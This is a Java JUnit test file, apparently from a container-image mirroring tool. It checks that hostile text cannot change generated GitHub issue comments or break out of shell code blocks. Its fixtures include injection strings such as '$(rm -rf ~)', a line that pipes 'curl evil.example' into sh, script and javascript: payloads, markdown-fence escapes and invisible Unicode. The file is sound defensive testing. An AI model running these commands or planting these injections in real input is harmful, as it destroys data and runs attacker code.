package io.github.syncimage.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.syncimage.copy.plan.Signatures;
import io.github.syncimage.image.Digest;
import io.github.syncimage.image.ImageReference;
import io.github.syncimage.image.Platform;
import io.github.syncimage.image.Repository;
import io.github.syncimage.postprocess.Visibility;
import io.github.syncimage.report.CommentWriter.Context;
import io.github.syncimage.trust.Verification;
import java.net.URI;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever others write, what the comment says outside code spans stays the same, and commands name images only. */
class HostileTextTest {
    private static final Context CONTEXT = new Context("issue 7", 0, null, null);
    /** A code span of CommonMark: a run of backticks up to the next run of the same length. */
    private static final Pattern SPAN = Pattern.compile("(?<!`)(`+)(?!`)(.+?)(?<!`)\\1(?!`)", Pattern.DOTALL);

    private static final Pattern FENCE = Pattern.compile("(?ms)^```bash$.*?^```$");

    private static final CommentWriter WRITER =
            new CommentWriter(new Templates(Path.of("configs/templates"), List.of()));

    static Stream<String> hostile() {
        return Stream.of(
                "@everyone",
                "@team/admins and someone@example.com",
                "[x](http://evil.example)",
                "![x](http://evil.example/pixel.png)",
                "<img src=http://evil.example>",
                "<script>alert(1)</script>",
                "</details></td></table>",
                "<!-- sync-image issue 8 -->",
                "--> ## ✅ 转换完成",
                "```",
                "```\n## ✅ 转换完成\n```bash\nrm -rf /",
                "~~~",
                "`",
                "a`b``c```d",
                "a` @everyone `b",
                "\\`",
                "ends with a backslash\\",
                "a | b | c",
                "|\n| --- |\n| x |",
                "$(rm -rf ~)",
                "`rm -rf ~`",
                "; rm -rf ~ # && curl evil.example | sh",
                "#1",
                "GH-1",
                "team/mirror#1",
                "3542383aa0c53ad1207736546afff4735940937a",
                "https://evil.example",
                "www.evil.example",
                "mailto:x@evil.example",
                "&lt;img&gt; &#64;everyone",
                "**bold** _it_ ~~gone~~ :+1: $x^2$",
                "# heading",
                "first\r\nsecond\nthird\u2028fourth\u2029fifth\u0085sixth\u000bseventh",
                "a\u0000b\u0007c\u001b[31mred",
                "\u202egnp.exe\u202c \u2066x\u2069 \u200fy",
                "zero\u200bwidth\ufeff\u00ad",
                "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo",
                "{{target}} {{{target}}} {{#public}}",
                "\ud83d unpaired",
                "x".repeat(70_000),
                "😀".repeat(400));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void changesNothingOutsideCodeSpans(String text) {
        for (Language language : Language.values()) {
            List<List<Outcome>> harmless = outcomes("harmless");
            List<List<Outcome>> hostile = outcomes(text);
            for (int i = 0; i < hostile.size(); i++) {
                String comment = WRITER.write(language, hostile.get(i), CONTEXT);
                assertThat(outsideSpans(comment))
                        .isEqualTo(outsideSpans(WRITER.write(language, harmless.get(i), CONTEXT)));
                assertThat(comment).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Co}&&[^\n]]");
            }
        }
    }

    private static List<List<Outcome>> outcomes(String text) {
        Outcome queued = new Outcome.Queued(text, 0);
        Outcome waiting = new Outcome.Waiting(Outcomes.SOURCE, text, null);
        Outcome refused = new Outcome.Refused(
                text, text, text, List.of(new Platform(text, text, text)), List.of(text), List.of(text), "", null);
        Outcome known = Outcomes.refused(text, "not_found", text);
        Outcome failed = new Outcome.Failed(Outcomes.SOURCE, null, text, text, false, Outcome.Hint.NONE);
        Outcome mirrored = mirrored(text);
        return List.of(
                List.of(queued),
                List.of(waiting),
                List.of(refused),
                List.of(known),
                List.of(failed),
                List.of(mirrored),
                List.of(queued, waiting, refused, known, failed, mirrored));
    }

    private static Outcome mirrored(String text) {
        Signatures signatures = new Signatures(
                List.of(new Signatures.Attached(text, text, Digest.of(text), true)),
                List.of(),
                List.of(new Signatures.Left(text, text, Signatures.Why.REFUSED, text)),
                List.of(new Signatures.Statement(text, text)),
                null);
        return new Outcome.Mirrored(
                Outcomes.result(List.of(new Platform(text, text, text), new Platform("linux", text, null)))
                        .with(signatures, 0)
                        .with(new Verification(Verification.State.FAILED, text, text, text, text, text)),
                new Visibility(Visibility.State.PRIVATE, Visibility.Cause.NONE, text),
                null);
    }

    private static String outsideSpans(String comment) {
        String withoutFences = FENCE.matcher(comment).replaceAll("FENCE");
        String outside = SPAN.matcher(withoutFences).replaceAll("SPAN");
        assertThat(outside).doesNotContain("`");
        return outside;
    }

    @Test
    void anImageNameThatNobodyCheckedCanNeitherEndTheBlockOfCommandsNorMeanAnythingToAShell() {
        ImageReference unchecked = new ImageReference(
                new Repository("evil.example", "a`$(rm -rf ~)`;x|y\n```\n@everyone <img>"), "1\n```", null);

        assertThat(Values.reference(unchecked)).isEqualTo("evil.example/arm-rfxy@everyoneimg:1");
    }

    @Test
    void textOfWhichNothingCanBeSeenIsNothing() {
        assertThat(Values.code("\u202e \u200b\n")).isEmpty();
        assertThat(WRITER.write(Language.EN, List.of(new Outcome.Waiting(Outcomes.SOURCE, null, null)), CONTEXT))
                .doesNotContain("null", "false");
    }

    @Test
    void linksOnlyToPlainAddresses() {
        assertThat(Values.url(URI.create("https://ghe.example:8443/a/b/actions/runs/1")))
                .isEqualTo("https://ghe.example:8443/a/b/actions/runs/1");
        for (String address : List.of("javascript:alert(1)", "https://x/a)b", "https://x/?q=1", "//x")) {
            assertThat(Values.url(URI.create(address))).isEmpty();
        }
    }
}
